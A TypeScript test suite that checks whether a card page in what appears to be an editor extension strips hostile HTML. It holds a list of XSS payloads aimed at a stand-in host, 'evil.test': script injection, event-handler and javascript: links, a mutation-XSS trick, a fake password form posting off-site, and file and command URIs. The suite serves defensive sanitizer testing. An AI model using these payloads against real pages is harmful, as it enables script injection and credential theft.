import assert from 'node:assert/strict';
import type { CardPageView } from '../../src/pages/protocol.ts';
import { type CardRig, openCardRig } from './cardRig.ts';

const evil = 'https://evil.test';
const run = "window.ran='yes'";

/** What a vendor's text may hold when someone means harm, by what it tries. */
const hostile: Record<string, string> = {
	'a script': `<script>${run}</script><script src="${evil}/a.js"></script>`,
	'a handler of a broken picture': `<img src=x onerror="${run}"><img src="${evil}/1.png" onload="${run}">`,
	'a handler without quotes': `<img/src/onerror=${run}>`,
	'handlers of other elements': `<p onclick="${run}" onmouseover="${run}">x</p><body onload="${run}"><details open ontoggle="${run}">`,
	'an element that takes the focus': `<input autofocus onfocus="${run}"><div tabindex=0 autofocus onfocus="${run}">`,
	'a drawing': `<svg onload="${run}"><script>${run}</script><image href="${evil}/2.png"/><animate onbegin="${run}" attributeName=x /></svg>`,
	formulas: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
	'a sheet': `<style>@import "${evil}/3.css"; body{background:url(${evil}/4.png)}</style><link rel=stylesheet href="${evil}/5.css">`,
	'a style of an element': `<p style="position:fixed;inset:0;background:url(${evil}/6.png)">x</p>`,
	'a frame': `<iframe src="${evil}/7" srcdoc="<script>parent.ran=1</script>"></iframe><frame src="${evil}/8"><object data="${evil}/9"></object><embed src="${evil}/10">`,
	'a form': `<form action="${evil}/11"><input name=password type=password><button>Sign in</button><button formaction="javascript:${run}">y</button></form>`,
	'links that run': `<a href="javascript:${run}">one</a><a href="  java\tscript:${run}">two</a><a href="JaVaScRiPt:${run}">three</a><a href="vbscript:x">four</a>`,
	'links that hold pages': `<a href="data:text/html,<script>${run}</script>">five</a><a href="vscode://x/y">six</a><a href="command:workbench.action.quit">seven</a><a href="file:///etc/passwd">eight</a>`,
	'other ways to a picture': `<img srcset="${evil}/12.png 1x"><picture><source srcset="${evil}/13.png"></picture><video poster="${evil}/14.png" src="${evil}/15"></video><audio src="${evil}/16" autoplay></audio>`,
	'pictures of other protocols': `<img src="http://evil.test/17.png"><img src="//evil.test/18.png"><img src="data:image/svg+xml,<svg onload='${run}'/>">`,
	'a page that leads on': `<meta http-equiv=refresh content="0;url=${evil}/19"><base href="${evil}/">`,
	'an attribute that loads': `<table background="${evil}/20.png"><td background="${evil}/21.png">x</td></table><p ping="${evil}/22">x</p>`,
	'a template and a shadow': `<template><img src=x onerror="${run}"></template><div><template shadowrootmode="open"><img src="${evil}/23.png"></template></div>`,
	'names of the page': `<a id="field-title" name="body" href="https://a.test">x</a><img name="getElementById"><p class="notice error" id="problems">x</p>`,
	'text that breaks out': `</div></main><script>${run}</script><!--><img src=x onerror=${run}>--><noscript><p title="</noscript><img src=x onerror=${run}>">`,
	'elements of our own': `<vscode-button>x</vscode-button><boardwalk-rich-text></boardwalk-rich-text><slot></slot>`,
	'what looks like the editor': `<p aria-label="Save" role="button" data-vscode-context='{"a":1}' class="codicon">x</p>`,
};
const forbidden =
	'script, style, link, meta, base, iframe, frame, object, embed, form, input, button, textarea, svg, math, video, audio, picture, source, template, vscode-button, boardwalk-rich-text, [id], [name], [class], [style], [role], [srcset], [background], [tabindex], [data-vscode-context], [aria-label]';

function cardWith(html: string, pictures = false): CardPageView {
	return {
		title: 'Hostile',
		place: 'Somewhere',
		facts: [],
		description: { html },
		pictures,
		fields: [],
		comments: { items: [{ id: '1', body: { html }, canRemove: false }], hasMore: false, canAdd: false },
		can: { move: false, openInBrowser: false },
		notices: [],
	};
}

describe('the page of a card and a text that means harm', function () {
	this.timeout(20_000);
	let rig: CardRig;

	before(async function () {
		this.timeout(60_000);
		rig = await openCardRig();
	});
	after(() => rig?.close());

	/** Whatever can be pressed or pointed at is, and then time passes for all that was begun. */
	async function provoke(): Promise<void> {
		await rig.page.evaluate(() => {
			for (const element of document.querySelectorAll<HTMLElement>('.prose, .prose *')) {
				element.dispatchEvent(new MouseEvent('mouseover', { bubbles: true }));
				element.click();
				element.focus();
			}
		});
		await rig.settle();
	}

	async function requireHarmless(): Promise<void> {
		assert.equal(await rig.page.evaluate(() => (window as never as { ran?: unknown }).ran), undefined);
		assert.equal(
			await rig.page.evaluate(
				(selector) =>
					document
						.querySelectorAll('.prose')
						.values()
						.flatMap((text) => text.querySelectorAll(selector).values())
						.map((one) => one.outerHTML)
						.toArray()
						.join('\n'),
				forbidden,
			),
			'',
		);
		assert.deepEqual(rig.trouble, []);
		assert.equal(rig.page.url(), 'https://card.test/');
		const urls = (await rig.told('openLink')).map(({ url }) => url);
		assert.deepEqual(
			urls.filter((url) => !/^(https?|mailto):/.test(url)),
			[],
		);
	}

	// Without the policy that guards the page in the editor: what makes the text safe must do so alone.
	for (const [what, html] of Object.entries(hostile)) {
		it(`lets nothing of it run or load: ${what}`, async () => {
			await rig.open({ card: cardWith(html), unprotected: true });
			await provoke();
			await requireHarmless();
			assert.deepEqual(rig.requests, []);
		});
	}

	it('stays harmless when pictures were asked for: only those of https are loaded', async () => {
		await rig.open({ card: cardWith(Object.values(hostile).join('\n'), true), unprotected: true });
		await provoke();
		await requireHarmless();
		assert.deepEqual([...new Set(rig.requests)], [`${evil}/1.png`]);
	});

	it('loads nothing under the policy of the editor either', async () => {
		await rig.open({ card: cardWith(Object.values(hostile).join('\n'), true) });
		await provoke();
		await requireHarmless();
		assert.deepEqual(rig.requests, []);
	});

	it('keeps what text is made of', async () => {
		const html =
			'<h1>Head</h1><p>a <b>b</b> <code>c</code></p><ul><li>d</li></ul><table><tbody><tr><td colspan="2">e</td></tr></tbody></table>';
		await rig.open({ card: { ...cardWith(html), comments: undefined } });
		const text = rig.page.locator('.prose');
		assert.equal((await text.innerHTML()).replaceAll(/<!--.*?-->/g, ''), html.replaceAll('h1>', 'h3>'));
	});

	it('says how many pictures wait, and tells when they are asked for', async () => {
		const html = `<p>See <img src="${evil}/a.png" alt="the plan"> and <img src="${evil}/b.png"></p>`;
		await rig.open({ card: { ...cardWith(html), comments: undefined } });
		await rig.page.getByText('2 pictures on the web were not loaded.').waitFor();
		assert.ok((await rig.page.locator('.prose').innerText()).includes('See [the plan] and [Picture]'));
		await rig.page.getByRole('button', { name: 'Load Pictures' }).click();
		await rig.next('pictures');
		await rig.settle();
		assert.deepEqual(rig.requests, []);
	});

	it('draws pictures of https once the editor says so', async () => {
		const html = `<img src="${evil}/a.png" alt="the plan"><img src="http://evil.test/b.png" alt="plain">`;
		await rig.open({ card: { ...cardWith(html, true), comments: undefined }, unprotected: true });
		await rig.page.getByRole('img', { name: 'the plan' }).waitFor({ state: 'attached' });
		await rig.settle();
		assert.deepEqual(rig.requests, [`${evil}/a.png`]);
		assert.equal(await rig.page.getByRole('button', { name: 'Load Pictures' }).count(), 0);
	});

	it('tells a link instead of following it, by click, middle click and keyboard', async () => {
		const html = '<p><a href="https://a.test/x?y=1" target="_blank">somewhere</a> <a href="/relative">nowhere</a></p>';
		await rig.open({ card: { ...cardWith(html), comments: undefined } });
		await rig.page.evaluate(() => {
			for (const type of ['click', 'auxclick']) {
				document.addEventListener(type, () => document.body.append('[the editor heard it]'));
			}
		});
		const link = rig.page.getByRole('link', { name: 'somewhere' });
		assert.equal(await link.getAttribute('title'), 'https://a.test/x?y=1');
		await link.click();
		await link.click({ button: 'middle' });
		await link.press('Enter');
		assert.deepEqual(await rig.next('openLink', 3), { type: 'openLink', url: 'https://a.test/x?y=1' });
		assert.equal((await rig.told('openLink')).length, 3);
		assert.equal(await rig.page.getByRole('link').count(), 1);
		assert.deepEqual(rig.requests, []);
		assert.equal(rig.page.context().pages().length, 1);
		// Where a click reaches the document, the editor opens the link too.
		assert.equal(await rig.page.getByText('[the editor heard it]').count(), 0);
		await rig.page.locator('h1').click();
		assert.equal(await rig.page.getByText('[the editor heard it]').count(), 1);
	});
});
